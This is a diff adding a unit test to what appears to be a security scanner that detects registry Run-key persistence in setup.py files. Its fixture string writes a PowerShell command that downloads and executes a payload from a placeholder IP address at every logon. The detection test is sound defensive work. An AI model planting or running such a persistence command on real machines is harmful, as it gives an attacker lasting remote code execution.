@@ -490,3 +490,12 @@ def test_a_curl_pipe_line_written_through_a_startup_file_handle_is_critical():
             "    with open('/tmp/notes.txt', 'a') as other:\n"
             "        other.write(LINE)\n")
     assert _by_line("shell-startup-file-write", "setup.py", text) == {4: "high", 5: "critical"}
+
+
+def test_a_fetch_and_run_command_under_a_run_key_is_critical_the_key_itself_high():
+    text = ("import winreg\n"
+            "RUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
+            "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE)\n"
+            "winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, 'powershell -c iex(iwr http://203.0.113.5/a)')\n"
+            "winreg.SetValueEx(k, 'v', 0, winreg.REG_SZ, 'C:\\\\tools\\\\agent.exe')\n")
+    assert _by_line("registry-run-key-persistence", "setup.py", text) == {3: "high", 4: "critical"}
